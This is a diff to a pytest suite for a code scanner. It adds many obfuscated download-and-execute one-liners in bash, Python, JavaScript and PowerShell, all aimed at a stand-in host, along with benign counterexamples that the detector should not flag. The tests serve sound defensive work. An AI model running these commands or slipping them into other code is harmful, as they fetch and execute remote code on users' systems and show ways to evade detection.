@@ -47,6 +47,31 @@ def find(path: str, text: str, severity: str = "danger") -> set[str]:
         'mapfile lines < <(curl https://unknown-host.top/x); eval "${lines[@]}"',
         'printf -v code %s "$(curl https://unknown-host.top/x)"; eval "$code"',
         'trap "$(curl https://unknown-host.top/x)" EXIT',
+        "alias x=curl; x -s https://unknown-host.top/x | sh",
+        "alias get='curl -s https://unknown-host.top/x'\nget | bash",
+        'c=(curl -s https://unknown-host.top/x); "${c[@]}" | sh',
+        'c=(curl); c+=(https://unknown-host.top/x); "${c[@]}" | sh',
+        "a=(cu rl sh); ${a[0]}${a[1]} https://unknown-host.top/x | ${a[2]}",
+        'args=(-so /tmp/a https://unknown-host.top/x); curl "${args[@]}"; sh /tmp/a',
+        "{curl,-s,https://unknown-host.top/x}|sh",
+        "exec 3< <(curl -s https://unknown-host.top/x)\nsh <&3",
+        "exec 3< <(curl -s https://unknown-host.top/x)\nsh /dev/fd/3",
+        "exec 5<>/dev/tcp/unknown-host.top/80\nsh <&5",
+        "coproc curl -s https://unknown-host.top/x\nsh <&${COPROC[0]}",
+        'coproc C { curl -s https://unknown-host.top/x; }\nbash <&"${C[0]}"',
+        "curl https://unknown-host.top/x > >(bash)",
+        "curl https://unknown-host.top/x | tee >(sh)",
+        'set -- curl -s https://unknown-host.top/x; "$@" | sh',
+        "c=XcurlX; ${c//X/} https://unknown-host.top/x | sh",
+        "c=curlx; ${c%x} https://unknown-host.top/x | sh",
+        "c=abcurl; ${c:2} https://unknown-host.top/x | sh",
+        "a=curl; b=a; ${!b} https://unknown-host.top/x | sh",
+        "c=cu; c+=rl; $c https://unknown-host.top/x | sh",
+        "cu$@rl https://unknown-host.top/x | s${z}h",
+        "/usr/bin/c?rl https://unknown-host.top/x | /bin/s?",
+        "curl -o /tmp/e https://unknown-host.top/x; BASH_ENV=/tmp/e bash -c true",
+        "PROMPT_COMMAND='curl https://unknown-host.top/x | sh'",
+        "awk 'BEGIN{system(\"curl https://unknown-host.top/x | sh\")}'",
     ],
 )
 def test_shell_code_that_runs_a_download_is_grave_in_every_spelling(command: str) -> None:
@@ -68,6 +93,12 @@ def test_shell_code_that_runs_a_download_is_grave_in_every_spelling(command: str
         "ssh -i ~/.ssh/id_ed25519 me@host.example uptime",
         "cat ~/.ssh/id_ed25519.pub",
         "git clone https://github.com/python/cpython",
+        "alias ls='ls --color'; ls -l",
+        'files=(a.txt b.txt); for f in "${files[@]}"; do cat "$f"; done',
+        'set -- "$@" --verbose; exec python3 main.py "$@"',
+        "exec 3> build.log; echo start >&3; make 2>&1 | tee >(grep -i error >&2)",
+        'name=${1%.md}; version=${tag#v}; mkdir -p "${name,,}/{a,b}"',
+        "coproc bc; echo 1+1 >&${COPROC[1]}",
     ],
 )
 def test_everyday_shell_commands_are_not_grave(command: str) -> None:
@@ -221,3 +252,80 @@ def test_reach_is_reported_without_alarm() -> None:
     assert {"host", "shell", "install"} <= find(
         "a.sh", "curl https://api.example.com\nffmpeg -i a b\npip install x", "info"
     )
+
+
+HARM = "curl https://unknown-host.top/x | sh"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"import os\nvars(os)['system']('{HARM}')",
+        f"import os\nos.__getattribute__('system')('{HARM}')",
+        f"from os import *\nsystem('{HARM}')",
+        f"import posix\nposix.system('{HARM}')",
+        f"import os\nlist(map(os.system, ['{HARM}']))",
+        f"import os, functools\nfunctools.partial(os.system, '{HARM}')()",
+        f"import atexit, os\natexit.register(os.system, '{HARM}')",
+        f"import threading, os\nthreading.Thread(target=os.system, args=('{HARM}',)).start()",
+        f"import os\n{{'a': os.system}}['a']('{HARM}')",
+        f"import os\nclass A: pass\nA.run = os.system\nA.run('{HARM}')",
+        f"import os\nrun = lambda: os.system('{HARM}')\nrun()",
+        f"import ctypes\nctypes.CDLL(None).system(b'{HARM}')",
+        f"import pdb\npdb.run(\"__import__('os').system('{HARM}')\")",
+        "import pickle, urllib.request as u\npickle.loads(u.urlopen('https://unknown-host.top/x').read())",
+        "import timeit, urllib.request as u\ntimeit.timeit(u.urlopen('https://unknown-host.top/x').read().decode())",
+        "import runpy, urllib.request as u\nu.urlretrieve('https://unknown-host.top/x', '/tmp/x.py')\nrunpy.run_path('/tmp/x.py')",
+    ],
+)
+def test_python_code_that_runs_a_download_is_grave_however_the_function_is_reached(code: str) -> None:
+    assert "download-execute" in find("scripts/run.py", code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"[].constructor.constructor('return process')().mainModule.require('child_process').exec('{HARM}')",
+        f"import('child_process').then(m => m.exec('{HARM}'))",
+        f"process.getBuiltinModule('child_process').execSync('{HARM}')",
+        f"import {{createRequire}} from 'module'; const r = createRequire(import.meta.url); r('child_process').execSync('{HARM}')",
+        f"Reflect.apply(require('child_process').exec, null, ['{HARM}'])",
+        f"require('child_process').exec.call(null, '{HARM}')",
+        f"const e = require('child_process').exec.bind(null); e('{HARM}')",
+        f"(0, eval)(\"require('child_process').exec('{HARM}')\")",
+        f"\\u0065val(\"require('child_process').exec('{HARM}')\")",
+        "fetch('https://unknown-host.top/x').then(r => r.text()).then(eval)",
+    ],
+)
+def test_javascript_code_that_runs_a_download_is_grave_however_the_function_is_reached(code: str) -> None:
+    assert "download-execute" in find("scripts/run.js", code)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("i`e`x", "In`vo`ke-Exp`ression", "&('i'+'ex')", "&('{1}{0}' -f 'ex','i')", "& (-join('i','e','x'))"),
+        *("&([char]105+[char]101+[char]120)", "&('iQeQx'.Replace('Q',''))", "&('xei'[2..0] -join '')"),
+        *("&($ShellId[1]+$ShellId[13]+'x')", "$a='i'; $b='ex'; &($a+$b)", "$c='iex'; & $c", "sal z iex; z"),
+    ],
+)
+def test_powershell_that_runs_a_download_is_grave_however_the_command_is_spelled(name: str) -> None:
+    assert "download-execute" in find("scripts/run.ps1", f"{name} (iwr https://unknown-host.top/x)")
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        ("a.py", "import os, threading\nthreading.Thread(target=os.system, args=('ls -l',)).start()"),
+        ("a.py", "import pickle\nwith open('cache.pkl', 'rb') as file:\n    data = pickle.load(file)"),
+        ("a.py", "import ctypes\nlib = ctypes.CDLL('libm.so.6')\nprint(lib.cos(0))"),
+        (
+            "a.js",
+            "class A { copy(data) { return new this.constructor(data) } }\nfetch('/x').then(r => r.json()).then(show)",
+        ),
+        ("a.ps1", "$name = 'report'; & .\\build.ps1 ($name + '.txt'); Set-Alias ll Get-ChildItem; ll"),
+        ("a.ps1", "$tool = 'git'; & $tool fetch; Invoke-WebRequest https://api.example.com/items -OutFile items.json"),
+    ],
+)
+def test_everyday_code_is_not_grave(path: str, code: str) -> None:
+    assert find(f"scripts/{path}", code) == set()
